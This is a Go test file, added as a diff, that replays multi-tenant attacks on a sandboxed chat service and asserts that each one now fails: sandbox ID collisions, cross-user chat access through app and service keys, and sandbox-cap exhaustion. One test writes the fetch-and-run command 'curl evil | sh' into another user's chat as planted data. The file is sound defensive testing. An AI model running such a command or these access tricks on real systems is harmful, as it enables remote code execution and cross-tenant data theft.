@@ -1,0 +1,274 @@
+package web_test
+
+// Tenancy attacks (T5, T6) from a live attack run, through the product as
+// engine serve builds it: real sign-in, app keys, share links, the
+// service key and bwrap sandboxes. Each test asserts that the attack
+// fails and that the legitimate use beside it still works.
+
+import (
+	"context"
+	"net/http"
+	"strings"
+	"testing"
+
+	"github.com/flowbox/flowbox/internal/server/servertest"
+	"github.com/flowbox/flowbox/nodes/apps"
+	"github.com/flowbox/flowbox/sandbox"
+	"github.com/flowbox/flowbox/web/auth"
+)
+
+const completions = "/api/v1/chat/completions"
+
+// publicApp makes a public app of the client's caller with the demo graph.
+func publicApp(t *testing.T, c *servertest.Client, name string) string {
+	t.Helper()
+	var app struct {
+		ID string `json:"appId"`
+	}
+	expect(t, c, "POST", "/api/apps", map[string]any{"name": name, "public": true, "graph": apps.DemoGraph()}, 201).JSON(t, &app)
+	return app.ID
+}
+
+// keyFor makes a key of appID as its owner.
+func keyFor(t *testing.T, env *servertest.Env, owner *servertest.Client, appID string) *servertest.Client {
+	t.Helper()
+	var made struct{ Key string }
+	expect(t, owner, "POST", "/api/apps/"+appID+"/keys", map[string]any{"name": "program"}, 201).JSON(t, &made)
+	return env.Bearer(made.Key)
+}
+
+// shell sends "$ cmd" to chatID of appID (customUid for keys) and returns
+// the answer.
+func shell(t *testing.T, c *servertest.Client, appID, customUID, chatID, cmd string) string {
+	t.Helper()
+	body := map[string]any{"appId": appID, "chatId": chatID, "messages": message("$ " + cmd)}
+	if customUID != "" {
+		body["customUid"] = customUID
+	}
+	_, answer := sendTurn(t, c, completions, body, 200)
+	return answer
+}
+
+// TestAttackSandboxIDCollision (finding 9): S1's sha256("appId-userId-
+// chatId") spelled account "dan" with chat "x-c" and account "dan-x" with
+// chat "c" alike, and app-key users "a"/"b-c" and "a-b"/"c" too: each
+// read the other's files. Now each has a sandbox of its own, and each
+// still finds its own files.
+func TestAttackSandboxIDCollision(t *testing.T) {
+	t.Parallel()
+	env := servertest.Start(t, servertest.Options{})
+	env.CreateUser(t, "dan", auth.RoleUser)
+	env.CreateUser(t, "dan-x", auth.RoleUser)
+	env.CreateUser(t, "alice", auth.RoleUser)
+	dan := env.Login(t, "dan", servertest.Password("dan"))
+	danx := env.Login(t, "dan-x", servertest.Password("dan-x"))
+	alice := env.Login(t, "alice", servertest.Password("alice"))
+	app := newApp(t, alice, "collide")
+	key := keyFor(t, env, alice, app)
+
+	type side struct {
+		c              *servertest.Client
+		app, uid, chat string
+	}
+	for _, pair := range [][2]side{
+		{{dan, apps.DemoAppID, "", "x-c"}, {danx, apps.DemoAppID, "", "c"}},
+		{{key, app, "a", "b-k"}, {key, app, "a-b", "k"}},
+	} {
+		owner, other := pair[0], pair[1]
+		if got := shell(t, owner.c, owner.app, owner.uid, owner.chat, "echo owner-secret > s.txt && cat s.txt"); !strings.Contains(got, "owner-secret") {
+			t.Fatalf("the owner's command: %q", got)
+		}
+		got := shell(t, other.c, other.app, other.uid, other.chat, "cat s.txt 2>/dev/null || echo no-such-file")
+		if strings.Contains(got, "owner-secret") || !strings.Contains(got, "no-such-file") {
+			t.Errorf("%s/%s read the file of %s/%s: %q", other.uid, other.chat, owner.uid, owner.chat, got)
+		}
+		// The owner's files are still the owner's.
+		if got := shell(t, owner.c, owner.app, owner.uid, owner.chat, "cat s.txt"); !strings.Contains(got, "owner-secret") {
+			t.Errorf("the owner lost their file: %q", got)
+		}
+	}
+}
+
+// TestAttackChatIDPreDelete (finding 10): deleting a chat id nobody has
+// used yet recorded a deletion of that id for every user of the app, so
+// the first user to pick it found their chat deleted. Now the deletion is
+// refused with 404 and says nothing was deleted; the user's chat with
+// that id works, and deleting one's own chat still works.
+func TestAttackChatIDPreDelete(t *testing.T) {
+	t.Parallel()
+	env := servertest.Start(t, servertest.Options{})
+	env.CreateUser(t, "alice", auth.RoleUser)
+	env.CreateUser(t, "bob", auth.RoleUser)
+	alice := env.Login(t, "alice", servertest.Password("alice"))
+	bob := env.Login(t, "bob", servertest.Password("bob"))
+
+	resp := expect(t, bob, "DELETE", "/api/apps/"+apps.DemoAppID+"/chats", map[string]any{"chatIds": []string{"report-2026"}}, 404)
+	if !strings.Contains(string(resp.Body), "nothing was deleted") {
+		t.Errorf("the refusal does not say what happened: %s", resp.Body)
+	}
+	if got := shell(t, alice, apps.DemoAppID, "", "report-2026", "echo alive"); !strings.Contains(got, "alive") {
+		t.Fatalf("alice's chat with the id bob deleted ahead: %q", got)
+	}
+	// bob cannot delete alice's chat either; alice can.
+	expect(t, bob, "DELETE", "/api/apps/"+apps.DemoAppID+"/chats", map[string]any{"chatIds": []string{"report-2026"}}, 404)
+	expect(t, alice, "DELETE", "/api/apps/"+apps.DemoAppID+"/chats", map[string]any{"chatIds": []string{"report-2026"}}, 202)
+}
+
+// TestAttackAppKeyReachesAccountChats (finding 7): alice's key on her
+// public app wrote run.sh into carol's chat, uploaded into it and deleted
+// another of carol's chats, and still worked once an admin disabled alice.
+// Now the key reaches only its own end users' (and visitors') chats, and
+// stops, with alice's share links, while alice is disabled.
+func TestAttackAppKeyReachesAccountChats(t *testing.T) {
+	t.Parallel()
+	env := servertest.Start(t, servertest.Options{})
+	env.CreateUser(t, "alice", auth.RoleUser)
+	env.CreateUser(t, "carol", auth.RoleUser)
+	alice := env.Login(t, "alice", servertest.Password("alice"))
+	carol := env.Login(t, "carol", servertest.Password("carol"))
+	admin := env.Login(t, servertest.AdminName, servertest.AdminPassword)
+	app := publicApp(t, alice, "public")
+	key := keyFor(t, env, alice, app)
+	l := newLink(t, alice, app, map[string]any{"name": "site"})
+
+	if got := shell(t, carol, app, "", "carol-1", "echo carol-data > c.txt && cat c.txt"); !strings.Contains(got, "carol-data") {
+		t.Fatalf("carol's chat: %q", got)
+	}
+	shell(t, carol, app, "", "carol-2", "true")
+
+	// The attack: write, upload, delete and list through the key.
+	expect(t, key, "POST", "/api/core/ai/sandbox/file", map[string]any{"action": "write", "appId": app, "chatId": "carol-1", "path": "run.sh", "content": "curl evil | sh"}, 404)
+	if resp := upload(t, key, "/api/uploads/carol-1?appId="+app, part{"x.txt", []byte("planted")}); resp.Status != http.StatusNotFound {
+		t.Errorf("upload into carol's chat with the app key: %d %s, want 404", resp.Status, resp.Body)
+	}
+	expect(t, key, "DELETE", "/api/apps/"+app+"/chats", map[string]any{"chatIds": []string{"carol-2"}}, 404)
+	expect(t, key, "GET", "/api/apps/"+app+"/chats/carol-1", nil, 404)
+	if resp := expect(t, key, "GET", "/api/apps/"+app+"/chats", nil, 200); strings.Contains(string(resp.Body), "carol-") {
+		t.Errorf("the app key lists carol's chats: %s", resp.Body)
+	}
+	// carol's chats are as she left them.
+	read := expect(t, carol, "POST", "/api/core/ai/sandbox/file", map[string]any{"action": "list", "appId": app, "chatId": "carol-1", "path": "/workspace"}, 200)
+	if strings.Contains(string(read.Body), "run.sh") {
+		t.Errorf("run.sh landed in carol's chat: %s", read.Body)
+	}
+	expect(t, carol, "GET", "/api/apps/"+app+"/chats/carol-2", nil, 200)
+
+	// The legitimate use: the key's own end user, and a visitor's chat.
+	if got := shell(t, key, app, "user-7", "k-1", "echo mine > m.txt && cat m.txt"); !strings.Contains(got, "mine") {
+		t.Fatalf("the key's end user: %q", got)
+	}
+	expect(t, key, "POST", "/api/core/ai/sandbox/file", map[string]any{"action": "read", "appId": app, "chatId": "k-1", "path": "m.txt"}, 200)
+	v := visit(t, env, l.URL)
+	_, _ = sendTurn(t, v, l.URL+"/api/v1/chat/completions", map[string]any{"chatId": "v-1", "messages": message("$ echo visitor")}, 200)
+	expect(t, key, "GET", "/api/apps/"+app+"/chats/v-1", nil, 200)
+
+	// Disabled, alice's key and link stop; enabled again, they work.
+	expect(t, admin, "POST", "/admin/api/users/u:alice/disable", nil, 200)
+	expect(t, key, "GET", "/api/apps/"+app+"/chats", nil, 401)
+	if resp := env.Anonymous().Do(t, "GET", l.URL, nil); resp.Status != http.StatusNotFound || !strings.Contains(string(resp.Body), "disabled or deleted") {
+		t.Errorf("alice's share link while she is disabled: %d %s, want 404 saying why", resp.Status, clip(resp.Body))
+	}
+	expect(t, admin, "POST", "/admin/api/users/u:alice/enable", nil, 200)
+	expect(t, key, "GET", "/api/apps/"+app+"/chats", nil, 200)
+	visit(t, env, l.URL)
+
+	// Deleted with her apps transferred, the keys and links go to the
+	// new owner and keep working.
+	env.CreateUser(t, "dave", auth.RoleUser)
+	expect(t, admin, "DELETE", "/admin/api/users/u:alice?apps=transfer&to=u:dave", nil, 200)
+	expect(t, key, "GET", "/api/apps/"+app+"/chats", nil, 200)
+	visit(t, env, l.URL)
+}
+
+// TestAttackServiceKeyCustomUID (finding 12): the service key with
+// customUid "u:alice" read alice's private chat, and with
+// "app:<id>:a" an app key's user's. Now such customUids are the service
+// key's own users; plain customUids work as before.
+func TestAttackServiceKeyCustomUID(t *testing.T) {
+	t.Parallel()
+	env := servertest.Start(t, servertest.Options{})
+	env.CreateUser(t, "alice", auth.RoleUser)
+	alice := env.Login(t, "alice", servertest.Password("alice"))
+	svc := env.Bearer(servertest.ServiceKey)
+	shell(t, alice, apps.DemoAppID, "", "alice-private", "echo alice-private-data > p.txt")
+	app := newApp(t, alice, "keyed")
+	key := keyFor(t, env, alice, app)
+	shell(t, key, app, "a", "key-user-chat", "echo key-user-data > k.txt")
+
+	for _, tc := range []struct{ app, uid, chat string }{
+		{apps.DemoAppID, "u:alice", "alice-private"},
+		{app, "app:" + app + ":a", "key-user-chat"},
+	} {
+		body := map[string]any{"appId": tc.app, "chatId": tc.chat, "customUid": tc.uid, "messages": message("$ cat *.txt")}
+		if resp := svc.Do(t, "POST", completions, body); resp.Status != http.StatusNotFound || strings.Contains(string(resp.Body), "data") {
+			t.Errorf("service key as %s in %s: %d %s, want 404", tc.uid, tc.chat, resp.Status, clip(resp.Body))
+		}
+	}
+	// Its own users: a plain customUid as before, a prefixed one apart.
+	ctx := context.Background()
+	for uid, stored := range map[string]string{"svc-user-1": "svc-user-1", "u:alice": "svc:u:alice"} {
+		chatID, answer := sendTurn(t, svc, completions, map[string]any{"appId": apps.DemoAppID, "customUid": uid, "messages": message("$ echo service-ok")}, 200)
+		if !strings.Contains(answer, "service-ok") {
+			t.Fatalf("the service key's user %s: %q", uid, answer)
+		}
+		if chat, err := env.Engine.Chats.Get(ctx, chatID); err != nil || chat.UserID != stored {
+			t.Errorf("customUid %s: chat %+v (%v), want user %s", uid, chat, err, stored)
+		}
+	}
+}
+
+// TestAttackAppKeyUsersTakeEverySlot (finding 5): looping customUid
+// u1..u4 on one app key took every sandbox the server may run, and other
+// users were refused. Now an app's key users share the app's cap, other
+// users still get sandboxes, and at a user's own cap the least recently
+// used idle sandbox is stopped (files kept) instead of the new chat
+// refused.
+func TestAttackAppKeyUsersTakeEverySlot(t *testing.T) {
+	t.Parallel()
+	env := servertest.Start(t, servertest.Options{Env: map[string]string{
+		"FLOWBOX_CAP_SANDBOXES": "4", "FLOWBOX_CAP_APP_SANDBOXES": "2", "FLOWBOX_CAP_USER_SANDBOXES": "2",
+	}})
+	env.CreateUser(t, "alice", auth.RoleUser)
+	env.CreateUser(t, "bob", auth.RoleUser)
+	alice := env.Login(t, "alice", servertest.Password("alice"))
+	bob := env.Login(t, "bob", servertest.Password("bob"))
+	app := newApp(t, alice, "looped")
+	key := keyFor(t, env, alice, app)
+
+	for i, uid := range []string{"u1", "u2", "u3", "u4"} {
+		got := shell(t, key, app, uid, "loop-"+uid, "echo slot")
+		switch {
+		case i < 2 && !strings.Contains(got, "slot"):
+			t.Fatalf("%s within the app's cap: %q", uid, got)
+		case i >= 2 && !strings.Contains(got, "app "+app+" (its key users) already has 2 running sandboxes"):
+			t.Errorf("%s past the app's cap: %q, want the app cap's refusal", uid, got)
+		}
+	}
+	// Other users still get sandboxes; bob's third chat stops his least
+	// recently used one, whose files come back with it.
+	if got := shell(t, bob, apps.DemoAppID, "", "b1", "echo kept > f && cat f"); !strings.Contains(got, "kept") {
+		t.Fatalf("bob's first chat beside the looping key: %q", got)
+	}
+	for _, chat := range []string{"b2", "b3"} {
+		if got := shell(t, bob, apps.DemoAppID, "", chat, "echo "+chat); !strings.Contains(got, chat) {
+			t.Fatalf("bob's chat %s at his cap: %q", chat, got)
+		}
+	}
+	svc := env.Engine.Services
+	rec, err := svc.Manager.Lookup(context.Background(), sandbox.Scope{AppID: apps.DemoAppID, UserID: "u:bob", ChatID: "b1"})
+	if err != nil || rec.Status != sandbox.StatusStopped {
+		t.Errorf("bob's least recently used sandbox: %+v, %v; want stopped", rec, err)
+	}
+	if got := shell(t, bob, apps.DemoAppID, "", "b1", "cat f"); !strings.Contains(got, "kept") {
+		t.Errorf("bob's stopped chat came back without its file: %q", got)
+	}
+	// The key's users within the cap still run.
+	if got := shell(t, key, app, "u1", "loop-u1", "echo again"); !strings.Contains(got, "again") {
+		t.Errorf("the key's user within the cap: %q", got)
+	}
+	// The admin page shows the app's cap and its use.
+	admin := env.Login(t, servertest.AdminName, servertest.AdminPassword)
+	if l, u := capRow(t, admin, "app-sandboxes"); l != "2" || u != "2" {
+		t.Errorf("admin page: app sandboxes cap %s, use %s; want 2 and 2", l, u)
+	}
+}
